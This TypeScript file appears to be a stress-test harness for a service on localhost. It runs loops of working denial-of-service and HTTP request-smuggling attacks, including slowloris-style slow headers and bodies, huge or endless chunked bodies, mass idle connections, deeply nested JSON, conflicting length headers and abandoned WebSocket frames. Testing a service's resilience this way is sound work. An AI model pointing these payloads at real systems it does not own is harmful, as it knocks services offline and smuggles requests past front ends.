import { request } from "node:http";
import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";

/*
 * What a holder of a key can do to a service by HTTP, as loops that run until the signal aborts. They come from an address of their own on
 * the loopback, since connections are also limited by address. As a program, `node hostile-attacks.ts '[{"port":1,"key":"k","api":{…}}]'`, it
 * runs them until SIGTERM, and prints how often each came to an end.
 */

interface Target {
  readonly port: number;
  readonly key: string;
  readonly signal: AbortSignal;
  /** Notes one attempt that has come to an end. */
  readonly done: (attack: string) => void;
}

/** Paths of an API that take a body, and bodies that mean work. */
export interface Api {
  readonly path: string;
  /** Valid requests that cost the service much. */
  readonly heavy: readonly { readonly path: string; readonly body: string }[];
  /** An answer that is a stream, to be left early. */
  readonly stream?: { readonly path: string; readonly body: string };
}

const address = "127.0.0.2";

const head = ({ port, key }: Target, path: string, ...more: readonly string[]): string =>
  [
    `POST ${path} HTTP/1.1`,
    `host: 127.0.0.1:${port}`,
    `authorization: Bearer ${key}`,
    "content-type: application/json",
    ...more,
    "",
    "",
  ].join("\r\n");

/** A connection that nobody waits for; resolves when it has ended, from either side. */
function open({ port, signal }: Target, use: (socket: Socket) => Promise<void>, limitMs = 20_000): Promise<void> {
  if (signal.aborted) return Promise.resolve();
  return new Promise((resolve) => {
    const socket = connect({ port, host: "127.0.0.1", localAddress: address });
    const end = (): void => void socket.destroy();
    const timer = setTimeout(end, limitMs);
    signal.addEventListener("abort", end, { once: true });
    socket.on("error", () => undefined);
    socket.on("data", () => undefined);
    socket.on("close", () => {
      clearTimeout(timer);
      signal.removeEventListener("abort", end);
      resolve();
    });
    socket.on("connect", () => {
      use(socket).then(
        () => undefined,
        () => end(),
      );
    });
  });
}

/** Writes as fast as the other side reads. False when the connection has ended. */
async function put(socket: Socket, bytes: string | Buffer): Promise<boolean> {
  if (socket.destroyed) return false;
  if (socket.write(bytes)) return true;
  await new Promise<void>((resolve) => {
    const go = (): void => {
      socket.off("drain", go);
      socket.off("close", go);
      resolve();
    };
    socket.on("drain", go);
    socket.on("close", go);
  });
  return !socket.destroyed;
}

const chunk = (text: string): string => `${Buffer.byteLength(text).toString(16)}\r\n${text}\r\n`;
const kibibytes64 = "a".repeat(65_536);

type Attack = (target: Target, api: Api) => Promise<void>;

const raw =
  (...texts: readonly ((target: Target, api: Api) => string)[]): Attack =>
  async (target, api) => {
    for (const text of texts) {
      // Each waits a little for an answer, so that the connection is there when it is interpreted.
      await open(
        target,
        async (socket) => {
          await put(socket, text(target, api));
        },
        1_000,
      );
    }
  };

const send =
  (bodies: (api: Api) => readonly { readonly path: string; readonly body: string }[]): Attack =>
  async (target, api) => {
    for (const { path, body } of bodies(api)) await ask(target, path, body);
  };

/** One whole request; resolves when its answer has ended, or the connection. */
function ask({ port, key, signal }: Target, path: string, body: string): Promise<void> {
  return new Promise((resolve) => {
    const headers = { authorization: `Bearer ${key}`, "content-type": "application/json" };
    const options = { port, host: "127.0.0.1", localAddress: address, method: "POST", path, headers, signal };
    const outgoing = request({ ...options, timeout: 60_000 }, (answer) => answer.resume());
    outgoing.on("timeout", () => outgoing.destroy());
    outgoing.on("error", () => undefined);
    outgoing.on("close", resolve);
    outgoing.end(body);
  });
}

const attacks: Readonly<Record<string, { readonly many: number; readonly attack: Attack }>> = {
  "a body of 256 MiB in chunks": {
    many: 6,
    attack: (target, { path }) =>
      open(target, async (socket) => {
        let going = await put(socket, head(target, path, "transfer-encoding: chunked"));
        for (let at = 0; at < 4_096 && going; at += 1) going = await put(socket, chunk(kibibytes64));
        await put(socket, "0\r\n\r\n");
      }),
  },
  "a body that announces 8 EiB": {
    many: 2,
    attack: (target, { path }) =>
      open(target, async (socket) => {
        let going = await put(socket, head(target, path, "content-length: 9223372036854775807"));
        while (going) going = await put(socket, kibibytes64);
      }),
  },
  "a body of a byte a second": {
    many: 64,
    attack: (target, { path }) =>
      open(target, async (socket) => {
        let going = await put(socket, head(target, path, "content-length: 1000000"));
        while (going) {
          going = await put(socket, "{");
          await pause(1_000);
        }
      }),
  },
  "a stream of chunks without end": {
    many: 16,
    attack: (target, { path }) =>
      open(target, async (socket) => {
        let going = await put(socket, head(target, path, "transfer-encoding: chunked"));
        while (going) {
          going = await put(socket, chunk(" "));
          await pause(20);
        }
      }),
  },
  "headers of a line a second": {
    many: 128,
    attack: (target, { path }) =>
      open(target, async (socket) => {
        let going = await put(socket, `POST ${path} HTTP/1.1\r\n`);
        while (going) {
          going = await put(socket, "x-more: of it\r\n");
          await pause(1_000);
        }
      }),
  },
  "connections that say nothing": {
    many: 1_500,
    attack: async (target) => {
      await open(target, () => Promise.resolve());
      // One that is refused comes again, and not at once: this is one computer.
      await pause(1_000);
    },
  },
  "JSON that ends early": {
    many: 4,
    attack: send(({ path, heavy }) =>
      heavy.map(({ body }) => ({ path, body: body.slice(0, Math.floor(Math.random() * body.length)) })),
    ),
  },
  "JSON of 200,000 levels": {
    many: 2,
    attack: send(({ path }) => [
      { path, body: `{"model":"auto","messages":${"[".repeat(200_000)}${"]".repeat(200_000)}}` },
      { path, body: `${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}` },
    ]),
  },
  "requests inside requests": {
    many: 8,
    attack: raw(
      (target, { path }) =>
        `${head(target, path, "content-length: 4", "transfer-encoding: chunked")}0\r\n\r\nGET /metrics HTTP/1.1\r\n\r\n`,
      (target, { path }) => `${head(target, path, "transfer-encoding: chunked, identity")}5;x\r\n{}\r\n0\r\n\r\n`,
      (target, { path }) => `${head(target, path, "transfer-encoding: chunked")}fffffffffffffffff\r\n`,
      (target, { path }) => `${head(target, path, "content-length: 2", "content-length: 20")}{}`,
      (target, { path }) => `${head(target, path, "content-length: +2").replaceAll("\r\n", "\n")}{}`,
      (target, { path }) => head(target, path, "content-length: 0").repeat(64),
    ),
  },
  "bytes that are no HTTP": {
    many: 4,
    attack: raw(
      () => "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003".repeat(20),
      () => "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
      () => `GET /${"a".repeat(100_000)} HTTP/1.1\r\n\r\n`,
      () => "\0".repeat(10_000),
      () => `GET / HTTP/1.1\r\n${"x: y\r\n".repeat(20_000)}\r\n`,
    ),
  },
  "sockets that are opened and left": {
    many: 16,
    attack: (target) =>
      open(target, async (socket) => {
        const lines = ["upgrade: websocket", "connection: upgrade", "sec-websocket-version: 13"];
        await put(
          socket,
          head(target, "/v1/chat/socket", ...lines, "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==").replace(
            "POST",
            "GET",
          ),
        );
        // Text of 127 bits of length, masked, of which little comes.
        await put(socket, Buffer.from([0x01, 0xff, 0, 0, 0, 0, 0x7f, 0xff, 0xff, 0xff, 1, 2, 3, 4]));
        while (await put(socket, kibibytes64)) await pause(50);
      }),
  },
  "answers that are left after their first byte": {
    many: 8,
    attack: (target, { stream }) =>
      stream === undefined
        ? pause(1_000)
        : open(target, async (socket) => {
            socket.once("data", () => socket.destroy());
            await put(
              socket,
              `${head(target, stream.path, `content-length: ${Buffer.byteLength(stream.body)}`)}${stream.body}`,
            );
          }),
  },
  "requests that are valid and heavy": { many: 16, attack: send(({ heavy }) => heavy) },
};

/** Runs every attack, each as often beside itself as it is worth, until the signal aborts. */
async function attackAll(target: Target, api: Api): Promise<void> {
  const loop = async (name: string, attack: Attack): Promise<void> => {
    while (!target.signal.aborted) {
      await attack(target, api).catch(() => undefined);
      target.done(name);
      // A refusal that comes at once is no reason to spin.
      await pause(20);
    }
  };
  await Promise.all(
    Object.entries(attacks).flatMap(([name, { many, attack }]) =>
      Array.from({ length: many }, () => loop(name, attack)),
    ),
  );
}

if (process.argv[1] === import.meta.filename) {
  const targets = JSON.parse(process.argv[2] ?? "[]") as readonly { port: number; key: string; api: Api }[];
  const stop = new AbortController();
  process.once("SIGTERM", () => stop.abort());
  const counts: Record<string, number> = {};
  const done = (name: string): void => void (counts[name] = (counts[name] ?? 0) + 1);
  await Promise.all(targets.map(({ port, key, api }) => attackAll({ port, key, signal: stop.signal, done }, api)));
  process.stdout.write(JSON.stringify(counts), () => process.exit(0));
}
